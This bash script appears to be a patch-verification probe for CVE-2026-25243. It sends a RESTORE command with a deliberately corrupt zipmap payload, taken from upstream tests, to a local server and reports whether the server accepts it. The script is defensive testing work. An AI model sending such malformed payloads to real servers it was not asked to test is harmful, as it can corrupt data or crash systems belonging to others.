#!/usr/bin/env bash
# prove.sh PORT: restores upstream's own corrupt zipmap for CVE-2026-25243 (tests/integration/corrupt-dump.tcl: 5 bytes of length for a
# small value) and prints the answer: "+OK" from a vulnerable server, "-ERR Bad data format" from a repaired one.
set -euo pipefail
exec 3<> "/dev/tcp/127.0.0.1/$1"
printf '*2\r\n$3\r\nDEL\r\n$5\r\nproof\r\n' >&3
IFS= read -r -t 5 line <&3
printf '*4\r\n$7\r\nRESTORE\r\n$5\r\nproof\r\n$1\r\n0\r\n$26\r\n\x09\x0e\x01\x01\x6b\xfe\x04\x00\x00\x00\x00\x76\x61\x6c\x31\xff\x09\x00\xd0\xf9\xe4\x1d\xe4\xfb\x11\x4c\r\n' >&3
IFS= read -r -t 5 line <&3
printf '%s\n' "${line%$'\r'}"
printf '*2\r\n$3\r\nDEL\r\n$5\r\nproof\r\n' >&3
